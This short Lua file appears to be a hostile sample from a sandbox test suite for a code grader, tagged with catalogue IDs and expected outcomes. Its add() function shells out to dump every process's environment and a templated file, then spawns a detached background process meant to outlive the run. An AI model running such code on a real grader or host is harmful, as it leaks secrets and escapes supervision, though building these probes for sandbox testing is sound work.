-- Have a shell do it: show the secrets, stay in the background.
-- catalogue: H14, H17, H20
-- shows: canary, survives
-- ends: wrong_answer, runtime_error
io.stdout:setvbuf("no")
print("attacking")

function add()
  os.execute("cat /proc/[0-9]*/environ @FILE@ 2>/dev/null | tr '\\0' '\\n'")
  os.execute("(setsid sh -c 'exec sleep 60' @MARKER@ >/dev/null 2>&1 &)")
  return -12345
end
